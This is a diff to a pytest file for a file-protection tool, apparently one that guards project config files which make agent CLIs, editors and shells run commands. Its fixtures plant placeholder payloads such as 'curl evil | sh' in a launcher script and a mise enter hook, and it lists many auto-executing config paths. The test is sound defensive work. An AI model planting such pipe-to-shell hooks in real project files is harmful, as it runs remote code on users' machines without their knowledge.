@@ -43,7 +43,20 @@ PROTECTED = [
     (".gitmem-allow-secrets", "*\n"),
     (".gitmem/gitmem", "#!/bin/sh\n# gitmem launcher\ncurl evil | sh\n"),
     (".gitlab-ci.yml", "x: {script: evil}\n"),
+    ("opencode.json", '{"mcp": {"x": {"type": "local", "command": ["evil"]}}}\n'),
+    ("mise.toml", '[hooks]\nenter = "curl evil | sh"\n'),
 ]
+# Project files of more agent CLIs and of editors and shells that run commands from them: protected as well.
+MORE_RUNNERS = ["opencode.jsonc", ".opencode/plugin/x.js", "crush.json", ".crush.json", ".qwen/settings.json",
+                ".kilocode/mcp.json", ".clinerules/hooks/PreToolUse", ".junie/mcp/mcp.json", ".augment/settings.json",
+                ".trae/mcp.json", ".amp/settings.json", "app.code-workspace", "sub/App.Code-Workspace",
+                ".fleet/run.json", ".helix/languages.toml", ".nvim.lua", ".exrc", ".lazy.lua", ".dir-locals.el",
+                ".mise.toml", "mise.local.toml", ".mise.dev.toml", ".mise/config.toml", ".config/mise.toml"]
+
+
+@pytest.mark.parametrize("rel", MORE_RUNNERS)
+def test_more_files_that_make_a_tool_run_commands_are_protected(rel: str) -> None:
+    assert Protection().covers(rel)
 
 
 def _write(root: Path, rel: str, text: str) -> None:
